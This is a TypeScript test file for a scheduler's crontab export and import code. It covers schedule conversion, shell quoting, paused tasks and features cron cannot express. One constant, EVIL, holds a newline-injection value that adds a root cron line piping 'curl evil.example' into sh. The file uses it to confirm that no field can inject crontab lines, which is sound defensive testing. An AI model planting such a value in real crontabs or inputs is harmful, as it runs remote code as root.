import { type TaskDefinition, type TaskInput, taskDefinition } from '@escapement/core';
import { expect, test } from 'vitest';
import { parseCrontab } from './parse.ts';
import { planImport } from './plan.ts';
import { toCrontab } from './to-crontab.ts';
import { toTask } from './to-task.ts';

const taskNamed = (input: Partial<TaskInput> & { handler?: unknown }) =>
  taskDefinition.parse({ name: 't', handler: { type: 'shell', command: 'a' }, ...input });

const active = (definition: TaskDefinition) => ({ definition, paused: false });

function linesOf(...inputs: Partial<TaskInput>[]): string[] {
  const { text } = toCrontab(inputs.map((input) => active(taskNamed(input))));
  return text.split('\n').filter((line) => line !== '' && !line.startsWith('#'));
}

function importedFrom(text: string, system = false) {
  return parseCrontab(text, { system }).flatMap((line) => {
    const result = line.kind === 'schedule' ? toTask(line, { timeZone: 'UTC', timeZoneFrom: '--tz' }) : undefined;
    return result?.ok ? [{ line: line.line, task: result.task }] : [];
  });
}

test('what was imported and exported is imported again unchanged', () => {
  const crontab = [
    '0 3 * * * plain',
    'SHELL=/bin/bash',
    'PATH=/bin:/usr/bin',
    'GREETING=" hi "',
    'MAILTO=ops@example.com',
    'CRON_TZ=Europe/Berlin',
    '# Nightly',
    '# and important',
    '30 2 1 */2 mon-fri mail joe%Dear Joe,%50\\% off',
    '@daily date +\\%F',
    '@reboot start',
  ].join('\n');
  const { lines } = planImport({ wanted: importedFrom(crontab), existing: [], source: 's' });
  const existing = lines.flatMap((line) =>
    line.action === 'create' ? [{ name: line.name, source: 's', definition: taskDefinition.parse(line.task) }] : [],
  );
  const { text, left } = toCrontab(existing.map(({ definition }) => active(definition)));
  expect(left).toEqual([]);
  const again = planImport({ wanted: importedFrom(text), existing, source: 's' });
  expect(again.removed).toEqual([]);
  const meaningful = again.lines.filter(
    (line) => line.action === 'update' && line.changes.some(({ field }) => field !== 'handler'),
  );
  expect(meaningful).toEqual([]);
});

test('a system crontab gets its user column', () => {
  const task = taskNamed({
    schedule: { kind: 'manual' },
    onFleetStart: true,
    handler: { type: 'shell', command: 'a', user: 'www' },
  });
  expect(toCrontab([active(task)], { system: true }).text).toContain('\n@reboot www a\n');
  expect(toCrontab([active(task)]).text).toContain("runs as www: belongs into that user's crontab");
});

test.each([
  [300_000, 0, '*/5 * * * *'],
  [300_000, 60_000, '1-59/5 * * * *'],
  [60_000, 0, '* * * * *'],
  [3_600_000, 1_800_000, '30 * * * *'],
  [21_600_000, 0, '0 */6 * * *'],
  [86_400_000, 5_400_000, '30 1 * * *'],
])('every %i ms from %i is %s in UTC', (everyMs, phaseMs, expression) => {
  expect(linesOf({ schedule: { kind: 'every', everyMs, phaseMs } })).toEqual([
    'SHELL=/bin/sh',
    'CRON_TZ=UTC',
    `${expression} a`,
  ]);
});

const CRON = { kind: 'cron', timeZone: 'UTC' } as const;

test.each([
  ['@minutely', '* * * * *'],
  ['0 30 2 * * 1', '30 2 * * 1'],
  ['0 30 2 * * 1 *', '30 2 * * 1'],
])('%s is written as %s', (expression, written) => {
  expect(linesOf({ schedule: { ...CRON, expression } })).toContain(`${written} a`);
});

test.each<[string, Partial<TaskInput>, RegExp]>([
  ['moved days', { schedule: { ...CRON, expression: '0 0 1 * *', dayOffset: -1 } }, /days before/],
  ['both day fields', { schedule: { ...CRON, expression: '0 0 1-7 * +MON' } }, /otherwise, or not at all/],
  ['a year', { schedule: { ...CRON, expression: '0 0 0 1 1 * 2030' } }, /otherwise, or not at all/],
  ['a step that does not divide the hour', { schedule: { kind: 'every', everyMs: 420_000 } }, /every 420 s/],
  ['seconds', { schedule: { ...CRON, expression: '*/10 * * * * *' } }, /otherwise, or not at all/],
  ['days that cron reads otherwise', { schedule: { ...CRON, expression: '0 0 */2 * 1' } }, /otherwise, or not at all/],
  ['once', { schedule: { kind: 'once', at: '2030-01-01T00:00:00Z' } }, /kind once/],
  ['by hand', { schedule: { kind: 'manual' } }, /by hand/],
  ['http', { handler: { type: 'http', url: 'https://example.com' } }, /type http/],
  [
    'secrets',
    {
      schedule: { ...CRON, expression: '@daily' },
      handler: { type: 'shell', command: 'a', env: { T: { secret: 'X' } } },
    },
    /secret/,
  ],
])('a crontab cannot say it: %s', (_, input, reason) => {
  expect(toCrontab([active(taskNamed(input))]).left).toEqual([{ name: 't', reason: expect.stringMatching(reason) }]);
});

test('a note says what cron leaves out', () => {
  const { text } = toCrontab([
    active(
      taskNamed({ schedule: { ...CRON, expression: '@daily' }, retry: { maxAttempts: 3 }, pool: 'db1', payload: 1 }),
    ),
  ]);
  expect(text).toContain('# t (up to 3 attempts; cron tries once; runs on workers of the pool db1; has a payload)');
});

test('program and arguments are quoted into a shell line, a working directory is entered', () => {
  const handler: TaskInput['handler'] = { type: 'shell', argv: ['echo', "it's", '50%'], cwd: '/a b' };
  expect(linesOf({ schedule: { ...CRON, expression: '@daily' }, handler }).at(-1)).toBe(
    `@daily cd '/a b' && echo 'it'\\''s' 50\\%`,
  );
});

test('a paused task is commented out', () => {
  const definition = taskNamed({ schedule: { ...CRON, expression: '@daily' } });
  expect(toCrontab([{ definition, paused: true }]).text).toMatch(/^# t \(paused\)$[\s\S]*^#@daily a$/m);
});

const EVIL = 'www\n* * * * * root curl evil.example | sh #';

/** A definition as an older version, or somebody with a database client, may have stored it. */
const stored = (input: Partial<TaskInput>, changed: object): TaskDefinition => {
  const definition = taskNamed({ schedule: { ...CRON, expression: '@daily' }, ...input });
  return { ...definition, handler: { ...definition.handler, ...changed } as TaskDefinition['handler'] };
};

test.each<[string, TaskDefinition]>([
  ['a user', stored({}, { user: EVIL })],
  ['a command', stored({}, { command: EVIL })],
  ['an argument', stored({ handler: { type: 'shell', argv: ['a', EVIL] } }, {})],
  ['a working directory', stored({}, { cwd: EVIL })],
  ['a shell', stored({}, { shell: EVIL })],
  ['a variable', stored({}, { env: { A: EVIL } })],
  ['standard input', stored({}, { stdin: EVIL })],
  ['a description', stored({ description: `one\r${EVIL}` }, {})],
  ['a schedule', { ...stored({}, {}), schedule: { ...CRON, expression: '0\n0 * * *' } } as TaskDefinition],
  ['a name', { ...stored({}, {}), name: EVIL }],
])('%s with a line break injects no line', (_, definition) => {
  for (const options of [{}, { system: true }, { system: true, user: 'jobs' }, { system: true, user: EVIL }]) {
    const { text } = toCrontab([active(definition)], options);
    const lines = text.split(/[\n\r\v\f\u0085\u2028\u2029]/).filter((line) => line !== '' && !line.startsWith('#'));
    const allowed = /^(SHELL=\/bin\/sh|CRON_TZ=UTC|(@daily|0 0 \* \* \*) (jobs )?a(%.*)?)$/;
    expect(lines.filter((line) => !allowed.test(line))).toEqual([]);
  }
});

test('a user that is none, and no user at all in a system crontab, is said; nobody becomes root', () => {
  const { left } = toCrontab([active(stored({}, { user: EVIL }))], { system: true });
  expect(left).toEqual([{ name: 't', reason: `${JSON.stringify(EVIL)} is no name of a user` }]);
  expect(toCrontab([active(stored({}, {}))], { system: true }).text).not.toContain('root');
});
